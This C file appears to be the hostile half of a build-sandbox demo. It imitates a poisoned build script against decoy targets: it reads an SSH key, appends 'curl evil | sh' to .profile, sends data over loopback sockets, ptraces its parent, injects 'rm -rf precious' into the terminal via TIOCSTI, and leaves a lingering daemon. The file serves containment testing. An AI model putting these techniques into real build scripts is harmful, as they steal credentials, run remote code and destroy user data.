/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The hostile step of `make demo`: what a poisoned build script would try. Each attempt prints one
 * line `NAME done` or `NAME ERRNO` on standard output; nothing is harmed, since every target is a
 * decoy that tools/demo/demo.py made.
 *
 * Usage: attack HOME TCP-PORT UDP-PORT VICTIM-PID
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

struct target {
	const char *home;
	in_port_t tcp_port;
	in_port_t udp_port;
	pid_t victim;
};

static void report(const char *name, int r)
{
	if (r >= 0)
		printf("%s done\n", name);
	else
		printf("%s %s\n", name, strerrorname_np(errno));
	fflush(stdout);
}

static int open_at_home(const struct target *t, const char *name, int flags)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%s", t->home, name);
	return open(path, flags | O_CLOEXEC, 0600);
}

static void try_read_key(const struct target *t)
{
	char key[64];
	int fd = open_at_home(t, ".ssh/id_ed25519", O_RDONLY);

	report("read-key", fd < 0 ? fd : (int)read(fd, key, sizeof(key)));
	close(fd);
}

static void try_write_outside(const struct target *t)
{
	int fd = open_at_home(t, ".profile", O_WRONLY | O_APPEND | O_CREAT);

	report("write-outside", fd < 0 ? fd : (int)write(fd, "curl evil | sh\n", 15));
	close(fd);
}

static void try_chmod_outside(const struct target *t)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", t->home);
	report("chmod-outside", chmod(path, 0644));
}

static struct sockaddr_in loopback(in_port_t port)
{
	return (struct sockaddr_in){
		.sin_family = AF_INET,
		.sin_port = htons(port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
}

static void try_tcp(const struct target *t)
{
	struct sockaddr_in a = loopback(t->tcp_port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	report("connect-tcp", fd < 0 ? fd : connect(fd, (struct sockaddr *)&a, sizeof(a)));
	close(fd);
}

static void try_fastopen(const struct target *t)
{
	struct sockaddr_in a = loopback(t->tcp_port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ssize_t n = -1;

	if (fd >= 0)
		n = sendto(fd, "key", 3, MSG_FASTOPEN, (struct sockaddr *)&a, sizeof(a));
	report("fast-open", (int)n);
	close(fd);
}

static void try_udp(const struct target *t)
{
	struct sockaddr_in a = loopback(t->udp_port);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	ssize_t n = -1;

	if (fd >= 0)
		n = sendto(fd, "key", 3, 0, (struct sockaddr *)&a, sizeof(a));
	report("send-udp", (int)n);
	close(fd);
}

static void try_unix(const struct target *t)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s/agent.sock", t->home);
	report("connect-unix", fd < 0 ? fd : connect(fd, (struct sockaddr *)&a, sizeof(a)));
	close(fd);
}

static int seize(pid_t pid)
{
	long r = ptrace(PTRACE_SEIZE, pid, NULL, NULL);

	return r < 0 ? -1 : 0;
}

static void try_kill(const struct target *t)
{
	report("signal-outside", kill(t->victim, SIGUSR1));
}

static void try_type(const struct target *t)
{
	static const char line[] = "rm -rf precious\n";
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	int r = 0;

	(void)t;
	for (size_t i = 0; i + 1 < sizeof(line) && r == 0; i++)
		r = ioctl(fd >= 0 ? fd : STDIN_FILENO, TIOCSTI, &line[i]);
	report("type-terminal", r);
	close(fd);
}

/* A daemon that would run on after the build; the demo looks for it by its name. */
static void try_outlive(const struct target *t)
{
	pid_t pid = fork();

	(void)t;
	if (pid == 0) {
		setsid();
		if (fork() == 0) {
			for (int fd = 0; fd < 64; fd++)
				close(fd);
			for (;;)
				pause();
		}
		_exit(0);
	}
	report("outlive", pid < 0 ? -1 : waitpid(pid, NULL, 0));
}

static void try_ptrace(const struct target *t)
{
	(void)t;
	report("ptrace-parent", seize(getppid()));
}

int main(int argc, char **argv)
{
	static void (*const attempts[])(const struct target *) = {
		try_read_key, try_write_outside, try_chmod_outside, try_tcp,  try_fastopen, try_udp,
		try_unix,     try_ptrace,	 try_kill,	    try_type, try_outlive,
	};
	struct target t;

	if (argc != 5) {
		fprintf(stderr, "usage: attack HOME TCP-PORT UDP-PORT VICTIM-PID\n");
		return 2;
	}
	t = (struct target){
		.home = argv[1],
		.tcp_port = (in_port_t)strtoul(argv[2], NULL, 10),
		.udp_port = (in_port_t)strtoul(argv[3], NULL, 10),
		.victim = (pid_t)strtol(argv[4], NULL, 10),
	};
	for (size_t i = 0; i < sizeof(attempts) / sizeof(attempts[0]); i++)
		attempts[i](&t);
	return 0;
}
